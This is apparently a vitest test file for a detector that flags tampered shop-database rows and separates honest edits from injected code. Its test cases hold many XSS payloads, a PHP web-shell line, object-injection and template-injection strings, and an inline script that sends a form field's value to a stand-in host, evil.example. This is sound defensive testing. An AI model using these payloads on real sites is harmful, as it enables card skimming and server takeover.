import type { FileChange } from '@komainu/model';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readingsOf } from '../src/database/decode.ts';
import { signsIn } from '../src/database/signs.ts';
import { judgeFiles } from '../src/index.ts';
import { change, REF, report, state, store } from './make.ts';

/** A value before and after; null: there is none. */
function judgeRow(
  before: string | null,
  after: string | null,
  { path = 'cms_block/3/content', policy = 'sealed' }: Partial<Pick<FileChange, 'path' | 'policy'>> = {},
) {
  const kept = store();
  const own = { type: 'text', mode: 0, uid: 0, gid: 0 } as const;
  const one = change(path, {
    kind: before === null ? 'added' : after === null ? 'removed' : 'changed',
    policy,
    before: before === null ? null : state(kept, before, own),
    after: after === null ? null : state(kept, after, own),
    bodyBefore: before === null ? null : kept.put(before),
    bodyAfter: after === null ? null : kept.put(after),
  });
  return judgeFiles({ ref: REF, report: report([one]), bodies: kept.bodies });
}
const told = (...given: Parameters<typeof judgeRow>) =>
  judgeRow(...given).findings.map(({ detector, grade, severity }) => `${detector} ${grade} ${severity}`);
const visitor = (value: string) =>
  told(null, value, { path: 'dtb_order/12/name01', policy: 'visitor' }).map((one) => one.split(' ')[1]);

const BLOCK =
  '<div class="b"><p>送料は全国一律550円です。</p><iframe src="https://www.google.com/maps/embed?pb=1"></iframe></div>';
const after = (more: string) => BLOCK.replace('</div>', `${more}</div>`);

describe('sealed-row: what runs is tampering', () => {
  test.each([
    ['a script from elsewhere', '<script src="https://cdn.evil.example/a.js"></script>'],
    ['without a scheme, in odd case, unclosed', '<sCrIpT/sRc=//evil.example/a>'],
    ['an inline script', "<script>fetch('//evil.example/'+document.forms[0].number.value)</script>"],
    ['a module', '<script type="module">import "//evil.example/a.js"</script>'],
    ['a handler on an image', '<img src=x onerror=a()>'],
    ['a handler without a space', '<svg/onload=a()>'],
    ['a handler behind a quoted bracket', '<img alt=">" src=x onerror=a()>'],
    ['a handler glued to a value', '<img src="x"onerror="a()">'],
    ['a script that a quote seems to hold', `<a title="<script src=//evil.example></script>`],
    ['a script address', '<a href="java&#x09;script:a()">x</a>'],
    ['an address with named entities', '<a href="javascript&colon;a()">x</a>'],
    ['a page as an address', '<iframe src="data:text/html,<b>x"></iframe>'],
    ['a frame with its own text', '<iframe srcdoc="&lt;form&gt;"></iframe>'],
    ['a refresh', '<meta http-equiv=refresh content="0;url=//evil.example">'],
    ['another base for every address', '<base href="//evil.example/">'],
    ['PHP', '<?php system($_GET["c"]); ?>'],
    ['PHP in short', '<?=`$_GET[0]`?>'],
  ])('%s', (_, more) => {
    expect(told(BLOCK, after(more))).toEqual(['sealed-row tampered critical']);
    expect(told(null, more)).toEqual(['sealed-row tampered critical']);
    expect(told(BLOCK, after(more), { policy: 'no-exec', path: 'wp_options/x/option_value' })).toEqual([
      'sealed-row tampered critical',
    ]);
    // What was sealed is the shop's own: it stays quiet however it looks.
    expect(told(after(more), after(`${more}<p>新商品</p>`))).toEqual(['sealed-row changed low']);
  });

  test('the sentence names the value and what is in it, in both languages', () => {
    const [finding] = judgeRow(BLOCK, after('<script src="//evil.example/a.js"></script>')).findings;
    expect(finding?.title).toEqual({
      en: 'The database now holds a script that was not sealed: cms_block/3/content.',
      ja: '封印時にはなかったスクリプトがデータベースに書き込まれています：cms_block/3/content。',
    });
    expect(finding?.detail.ja).toContain('//evil.example/a.js');
    expect(finding?.references.map(({ role }) => role)).toEqual(['before', 'after']);
  });

  test('a sealed script whose address or text changes is a new one', () => {
    const own = '<script src="/js/a.js"></script><script>var a = 1</script>';
    expect(told(own, own.replace('/js', '//evil.example'))).toEqual(['sealed-row tampered critical']);
    expect(told(own, own.replace('= 1', '= eval(x)'))).toEqual(['sealed-row tampered critical']);
    expect(told(own, `${own} `)).toEqual(['sealed-row changed low']);
  });

  test('objects that run something; others may be data', () => {
    expect(told('a:0:{}', 'O:8:"Evil\\Job":1:{s:1:"c";s:22:"file_put_contents(...)";}')).toEqual([
      'sealed-row tampered critical',
    ]);
    expect(told('a:0:{}', 'a:1:{i:0;O:8:"stdClass":0:{}}')).toEqual(['sealed-row changed high']);
  });
});

describe('sealed-row: what does not run', () => {
  test.each([
    ['a paragraph', '<p>営業時間 <b>10:00</b>–18:00 &amp; 土日休み</p>', 'low'],
    ['prices and comparisons', '5 < 7, I <3 U, a<b', 'low'],
    [
      'structured data for search engines',
      '<script type="application/ld+json">{"@type":"Store"}</script>',
      'low',
    ],
    ['the word', '<p>JavaScript: 入門 / onerror= とは</p>', 'low'],
    ['a link to elsewhere', '<a href="https://other.example/">x</a>', 'high'],
    ['a new frame', '<iframe src="https://video.example/1"></iframe>', 'high'],
    ['code as a text to read', '<pre>&lt;script src="a.js"&gt;</pre>', 'high'],
  ])('%s is a change', (_, more, severity) => {
    expect(told(BLOCK, after(more))).toEqual([`sealed-row changed ${severity}`]);
  });

  test('outside of what is sealed an honest edit is not told at all', () => {
    expect(judgeRow('x', '<p>新着 <3</p>', { policy: 'no-exec' }).verdict.kind).toBe('clean');
  });

  test('a value that is gone is told; one that is not at hand is not clean', () => {
    expect(told(BLOCK, null)).toEqual(['sealed-row changed low']);
    const kept = store();
    const one = change('cms_block/3/content', { after: state(kept, BLOCK, { type: 'text' }) });
    const judged = judgeFiles({ ref: REF, report: report([one]), bodies: () => undefined });
    expect(judged.verdict.kind).toBe('not-fully-observed');
  });
});

describe('database-program', () => {
  test.each([
    ['@trigger/copycat', 'tampered'],
    ['@event/nightly', 'tampered'],
    ['@procedure/p', 'tampered'],
    ['@function/public.f(text)', 'tampered'],
    ['@view/v', 'changed'],
  ])('%s that was not there is %s', (path, grade) => {
    const { findings } = judgeRow(null, 'UPDATE cms_block SET content = 1', { path });
    expect(findings).toMatchObject([{ detector: 'database-program', grade }]);
  });
  test('one that is gone may be a release', () => {
    expect(told('x', null, { path: '@trigger/own' })).toEqual(['database-program changed high']);
  });
});

const ATTACKS = [
  '<script src=//evil.example></script>',
  '"><script>a()</script>',
  `" onmouseover="a()" x="`,
  '<img src=x onerror=a()>',
  'javascript:a()',
  '{{var this.getTemplateFilter().filter(x)}}',
  '<?php system(1); ?>',
  'O:21:"JDatabaseDriverMysqli":0:{}',
];
const ENCODERS: readonly (readonly [string, (text: string) => string])[] = [
  ['entities', (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')],
  ['decimal entities', (text) => text.replaceAll('<', '&#060')],
  ['URL', (text) => encodeURIComponent(text)],
  ['URL twice', (text) => encodeURIComponent(encodeURIComponent(text))],
  ['escapes', (text) => text.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\u003E`)],
  ['hex escapes', (text) => text.replaceAll('<', String.raw`\x3c`)],
  ['full width', (text) => text.replaceAll(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))],
  ['UTF-7', (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')],
  ['base64', (text) => Buffer.from(text).toString('base64')],
];

describe('visitor-field', () => {
  test.each(ATTACKS)('%s is told, and halts nothing', (value) => {
    expect(visitor(value)).toEqual(['changed']);
    expect(visitor(`佐藤 ${value} 様`)).toEqual(/^(?:java|O:)/.test(value) ? [] : ['changed']);
  });
  test.each(ENCODERS)('a script under %s', (_, encode) => {
    expect(visitor(encode('<script src=//evil.example></script>'))).toEqual(['changed']);
  });
  test.each([
    '佐藤 花子 <3',
    '〈株〉山田商店 & サンズ',
    '＜至急＞お願いします',
    '<至急>10時までに',
    '100% <5kg',
    'a@b.example <a@b.example>',
    'Tom & Jerry <tom@example.com>',
    "O'Brien; DROP TABLE",
    '送料 550円 {税込}',
    '(^_^) <- よろしく',
    'C:\\Users\\taro 50%OFF %E6%9D%B1%E4%BA%AC',
    'メッセージ: Java Script の本',
  ])('%s is an honest visitor', (value) => {
    expect(visitor(value)).toEqual([]);
  });
});

describe('hostile values', () => {
  test('long ones end in good time', () => {
    for (const part of [
      '<a b="',
      '<script ',
      "<a '",
      '<<<<',
      '&lt',
      '%3',
      String.raw`\u`,
      'O:1:"',
      '{{',
      '<a b=c ',
    ])
      judgeRow('', part.repeat(300_000 / part.length));
  }, 20_000);
  test('whatever it is, it is judged, and the same each time', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string(), (one, other) => {
        const judged = judgeRow(one, other);
        expect(judged.findings.filter(({ detector }) => detector === 'engine')).toEqual([]);
        expect(judgeRow(one, other)).toEqual(judged);
      }),
    );
  });
  test('a script is found wherever it stands in a text', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (head, tail) => {
        const found = signsIn(`${head}<script src=//evil.example/x.js></script>${tail}`);
        expect(found.some(({ kind }) => kind === 'script')).toBe(true);
      }),
    );
  });
  test('readings are few, whatever is put into each other', () => {
    expect(readingsOf('%26lt%3B\\u003c&lt;＜%253c'.repeat(50)).length).toBeLessThanOrEqual(24);
  });
});
